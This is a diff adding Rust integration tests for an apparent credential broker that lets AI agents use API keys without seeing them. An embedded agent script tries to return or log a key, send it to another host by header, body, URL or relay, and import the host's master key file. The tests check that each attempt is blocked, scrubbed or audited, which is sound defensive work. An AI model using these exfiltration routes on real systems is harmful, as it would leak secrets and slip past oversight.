@@ -502,3 +502,259 @@ fn mcp_sessions_are_bounded_and_a_closed_one_makes_room() {
     }
     assert!(opened, "a closed session did not make room");
 }
+
+/// An agent's script trying every way out for the key it may use: `use` sends it where it
+/// is bound (and shows what came back), the others try to return it, log it, send it to
+/// another host (as a header, in a body, in a URL), put it in the bound host's URL, and
+/// relay what the bound host echoed to another host.
+const AGENT_SCRIPT: &str = r#"
+import { step, credential, fetch, log, Request } from 'latchkey-sdk';
+
+export const run = step(async (input: any) => {
+  const key = credential('TOKEN');
+  const attempt = async (f: () => Promise<any>) => {
+    try { return await f(); } catch (e) { return { refused: String(e) }; }
+  };
+  switch (input.action) {
+    case 'use': {
+      const r = await fetch(input.url, { headers: { authorization: ['Bearer ', key] } });
+      return { status: r.status, body: r.text() };
+    }
+    case 'return':
+      return {
+        string: String(key), template: `${key}`, json: JSON.stringify(key), plain: key,
+        own: Object.getOwnPropertyNames(key).map((n) => String((key as any)[n])),
+      };
+    case 'log':
+      console.log('the key is', key, String(key));
+      log.error('and again', JSON.stringify({ key }));
+      return { logged: true };
+    case 'elsewhere':
+      return {
+        header: await attempt(() => fetch(input.other, { headers: { authorization: ['Bearer ', key] } })),
+        body: await attempt(async () => Request.post(input.other).body(['token=', key]).send()),
+        url: await attempt(async () => Request.get(input.other).query('token', key).send()),
+        bound_url: await attempt(async () => Request.get(input.url).query('token', key).send()),
+      };
+    case 'relay': {
+      const echoed = (await fetch(input.url, { headers: { authorization: ['Bearer ', key] } })).text();
+      const sent = await fetch(input.other, { method: 'POST', body: echoed });
+      return { relayed: sent.status, echoed };
+    }
+  }
+  return { unknown: input.action };
+});
+"#;
+
+fn js_sdk() -> PathBuf {
+    let sdk = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../guest-sdk/js");
+    assert!(
+        sdk.join("node_modules/@bytecodealliance/componentize-js")
+            .is_dir(),
+        "the JavaScript toolchain is missing: run tests/setup/40-js.sh (tests/run.sh does)"
+    );
+    sdk
+}
+
+fn script_policy(
+    s: &Server,
+    token: &str,
+    enabled: bool,
+    keys: &[&str],
+) -> reqwest::blocking::Response {
+    s.json(
+        "PUT",
+        "/v1/scripts",
+        token,
+        json!({"enabled": enabled, "max_keys": keys}),
+    )
+}
+
+#[test]
+fn an_agent_written_script_uses_the_key_and_no_way_out_reaches_the_agent_or_another_host() {
+    let up = Upstream::start_blocking().unwrap();
+    let other = Upstream::start_blocking().unwrap();
+    let (cli, admin) = store_with_admin();
+    let sdk = js_sdk();
+    let s = Server::start(&cli, &["--script-sdk", sdk.to_str().unwrap()]);
+    put_secret(&s, &admin, &up);
+    let runner = token(&s, &admin, "agent", "runner");
+
+    // Off by default: no tool, and the policy says so.
+    let off = client("session", &http(&s, &runner)).unwrap();
+    assert!(tool_names(&off).is_empty(), "{off}");
+    let policy: Value = s.get("/v1/scripts", &runner).json().unwrap();
+    assert_eq!(policy, json!({"enabled": false, "max_keys": []}));
+    // Only an admin turns them on; bad keys and unknown fields are refused, nothing stored.
+    assert_eq!(
+        script_policy(&s, &runner, true, &["TOKEN"]).status(),
+        StatusCode::FORBIDDEN
+    );
+    let bad = script_policy(&s, &admin, true, &["TOKEN", "no spaces"]);
+    assert_eq!(bad.status(), StatusCode::BAD_REQUEST);
+    assert!(bad.text().unwrap().contains("max_keys"));
+    let unknown = s.json(
+        "PUT",
+        "/v1/scripts",
+        &admin,
+        json!({"enabled": true, "max_keys": [], "keys": ["TOKEN"]}),
+    );
+    assert_eq!(unknown.status(), StatusCode::BAD_REQUEST);
+    assert_eq!(
+        s.get("/v1/scripts", &runner).json::<Value>().unwrap()["enabled"],
+        false
+    );
+    let on = script_policy(&s, &admin, true, &["TOKEN", "TOKEN"]);
+    assert_eq!(on.status(), StatusCode::OK);
+    assert_eq!(on.json::<Value>().unwrap()["max_keys"], json!(["TOKEN"]));
+
+    let call = |action: &str| {
+        json!(["run_script", {"source": AGENT_SCRIPT, "keys": ["TOKEN"], "input": {
+            "action": action, "url": up.url("/echo"), "other": other.url("/echo"),
+        }}])
+    };
+    let master_file = [cli.path("master.key"), cli.path(".latchkey/master.key")]
+        .into_iter()
+        .find(|p| p.exists())
+        .unwrap();
+    let master = std::fs::read_to_string(&master_file).unwrap();
+    let steal_master = format!(
+        "import {{ step }} from 'latchkey-sdk';\nimport m from {:?} with {{ type: 'text' }};\nexport const run = step(() => ({{ m }}));\n",
+        master_file.to_str().unwrap()
+    );
+    let mut cfg = http(&s, &runner);
+    cfg["timeout_s"] = json!(600);
+    cfg["calls"] = json!([
+        call("use"),
+        call("return"),
+        call("log"),
+        call("elsewhere"),
+        call("relay"),
+        // A key the admin did not allow.
+        ["run_script", {"source": AGENT_SCRIPT, "keys": ["OTHER"], "input": {}}],
+        // The build bundles nothing from the host's disk.
+        ["run_script", {"source": steal_master, "keys": [], "input": {}}],
+        ["run_script", {"source": AGENT_SCRIPT, "key": "TOKEN"}],
+    ]);
+    let seen = client("session", &cfg).unwrap();
+    assert_eq!(tool_names(&seen), ["run_script"], "{seen}");
+    let tool = &seen["tools"][0];
+    assert_eq!(
+        tool["schema"]["properties"]["keys"]["items"]["enum"],
+        json!(["TOKEN"])
+    );
+    let calls = seen["calls"].as_array().unwrap();
+    let structured = |i: usize| -> &Value {
+        assert_eq!(calls[i]["is_error"], false, "call {i}: {seen}");
+        &calls[i]["structured"]
+    };
+
+    // Used where it is bound: the upstream got it, the script saw it scrubbed.
+    assert_eq!(structured(0)["status"], 200, "{seen}");
+    assert!(
+        structured(0)["body"]
+            .as_str()
+            .unwrap()
+            .contains("[REDACTED]"),
+        "{seen}"
+    );
+    assert!(
+        up.requests_to("/echo").iter().any(|r| r
+            .header("authorization")
+            .is_some_and(|h| h == format!("Bearer {SECRET}"))),
+        "the bound upstream did not get the key"
+    );
+    // Returned, logged: only handles.
+    assert!(
+        structured(1)["string"].as_str().unwrap().contains("TOKEN"),
+        "{seen}"
+    );
+    assert_eq!(structured(2)["logged"], true, "{seen}");
+    // Every other way out refused by the binding.
+    let elsewhere = structured(3);
+    for way in ["header", "body", "url", "bound_url"] {
+        assert!(
+            elsewhere[way]["refused"]
+                .as_str()
+                .is_some_and(|r| r.contains("denied")),
+            "{way}: {elsewhere}"
+        );
+    }
+    // What the bound host echoed went on to another host scrubbed.
+    assert_eq!(structured(4)["relayed"], 200, "{seen}");
+    assert!(
+        !other.requests().is_empty(),
+        "the relay did not reach the other host"
+    );
+    assert!(
+        other.requests().iter().all(|r| !r.contains(SECRET)),
+        "the key reached another host"
+    );
+    // A key outside the admin's list: refused, saying how to allow it.
+    let not_allowed = calls[5]["text"].as_str().unwrap();
+    assert_eq!(calls[5]["is_error"], true, "{seen}");
+    assert!(
+        not_allowed.contains("OTHER") && not_allowed.contains("latchkey scripts enable"),
+        "{not_allowed}"
+    );
+    // The master key file stays on the host.
+    assert_eq!(calls[6]["is_error"], true, "{seen}");
+    let refused_import = calls[6]["text"].as_str().unwrap();
+    assert!(
+        refused_import.contains("only latchkey-sdk may be imported"),
+        "{refused_import}"
+    );
+    // Unknown arguments are named.
+    assert!(
+        calls[7]["text"]
+            .as_str()
+            .unwrap()
+            .contains("unknown field `key`"),
+        "{seen}"
+    );
+
+    // The runs are the agent's, recorded like any other; the refusals are in the audit trail.
+    let runs: Value = s.get("/v1/runs", &admin).json().unwrap();
+    let scripts: Vec<&Value> = runs
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|r| r["target"].as_str().unwrap().starts_with("script:"))
+        .collect();
+    // use, return, log, elsewhere, relay: the refused calls never started a run.
+    assert_eq!(scripts.len(), 5, "{runs}");
+    assert!(scripts.iter().all(|r| r["user"] == "agent"));
+    let audit: Value = s.get("/v1/audit?key=TOKEN", &admin).json().unwrap();
+    let denied = audit["records"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|r| r["event"] == "inject-denied")
+        .count();
+    assert!(denied >= 3, "{audit}");
+
+    let all = format!("{seen}{}{audit}{runs}", s.printed());
+    assert!(
+        !all.contains(SECRET),
+        "the value reached the client or a log"
+    );
+    assert!(!all.contains(master.trim()), "the master key left the host");
+}
+
+#[test]
+fn run_script_is_refused_with_how_to_fix_it_where_the_toolchain_is_missing() {
+    let up = Upstream::start_blocking().unwrap();
+    let (_cli, admin, s) = platform(&up);
+    assert_eq!(
+        script_policy(&s, &admin, true, &[]).status(),
+        StatusCode::OK
+    );
+    let runner = token(&s, &admin, "agent", "runner");
+    let mut cfg = http(&s, &runner);
+    cfg["calls"] = json!([["run_script", {"source": "export const run = 1;", "input": {}}]]);
+    let seen = client("session", &cfg).unwrap();
+    assert_eq!(tool_names(&seen), ["probe", "run_script", "wf"], "{seen}");
+    assert_eq!(seen["calls"][0]["is_error"], true, "{seen}");
+    let text = seen["calls"][0]["text"].as_str().unwrap();
+    assert!(text.contains("--script-sdk"), "{text}");
+}
